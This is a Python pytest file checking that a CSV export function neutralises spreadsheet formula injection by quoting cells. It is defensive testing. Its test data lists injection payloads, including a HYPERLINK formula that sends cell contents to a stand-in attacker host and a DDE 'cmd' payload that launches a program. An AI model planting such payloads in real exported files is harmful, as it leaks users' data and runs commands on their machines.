"""Tables for people: what a spreadsheet would compute is a text."""

import csv
import io

import pytest

from services.gateway.tables import csv_response

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"
)  # fmt: skip


async def written(*cells: object) -> list[str]:
    async def rows():
        yield cells

    response = csv_response("table.csv", rows())
    text = "".join([str(part) async for part in response.body_iterator])
    return next(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_cell_is_a_formula(formula: str):
    assert await written(formula) == [f"'{formula}"]


async def test_numbers_and_other_texts_stay_as_they_are():
    assert await written(-1, 0.5, "a=b", "") == ["-1", "0.5", "a=b", ""]
